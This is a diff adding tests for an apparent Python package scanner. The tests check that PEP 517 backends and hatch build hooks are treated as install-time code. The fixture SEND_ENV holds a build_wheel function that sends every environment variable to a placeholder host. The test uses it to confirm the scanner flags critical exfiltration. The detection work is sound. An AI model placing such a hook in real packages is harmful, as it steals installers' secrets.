@@ -1,0 +1,40 @@
+// Build code other than setup.py runs at install time too: an in-tree PEP 517 backend and hatch/pdm hooks.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { buildSdist } from '../../scripts/lib/build-dist.ts';
+import { analyzeTarget, initAnalysis } from '../../src/analysis/api.ts';
+import { openArchive } from '../../src/pypi/archive/index.ts';
+
+const SEND_ENV = 'import os, urllib.request\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n    return "x.whl"\n';
+
+async function analyse(files: Record<string, string>) {
+  await initAnalysis();
+  const sdist = buildSdist({ name: 'hooked', version: '1.0', files });
+  return analyzeTarget(await openArchive(sdist.bytes, sdist.filename), { kind: 'archive', filename: sdist.filename });
+}
+
+test('an in-tree PEP 517 backend is install-time code', async () => {
+  const target = await analyse({
+    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
+    '_build/backend.py': SEND_ENV,
+    'hooked/__init__.py': 'VALUE = 1\n',
+  });
+  assert.ok(target.findings.some((f) => f.rule === 'build-hook' && /PEP 517 backend \(backend from _build\)/.test(f.message)));
+  const backend = target.files.find((f) => f.path.endsWith('_build/backend.py'))!;
+  const flow = backend.findings.find((f) => f.rule === 'exfiltration')!;
+  assert.equal(flow.trigger, 'install');
+  assert.equal(flow.severity, 'critical');
+  assert.equal(target.risk, 'critical');
+});
+
+test('a hatch build hook (custom path) runs at install time; the same code elsewhere runs when called', async () => {
+  const target = await analyse({
+    'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
+    'tools/hook.py': SEND_ENV,
+    'tools/other.py': SEND_ENV,
+  });
+  assert.ok(target.findings.some((f) => f.rule === 'build-hook' && /hatch build hook \(tools\/hook\.py\)/.test(f.message)));
+  const triggerOf = (name: string) => target.files.find((f) => f.path.endsWith(name))!.findings.find((f) => f.rule === 'exfiltration')!.trigger;
+  assert.equal(triggerOf('tools/hook.py'), 'install');
+  assert.equal(triggerOf('tools/other.py'), 'call');
+});
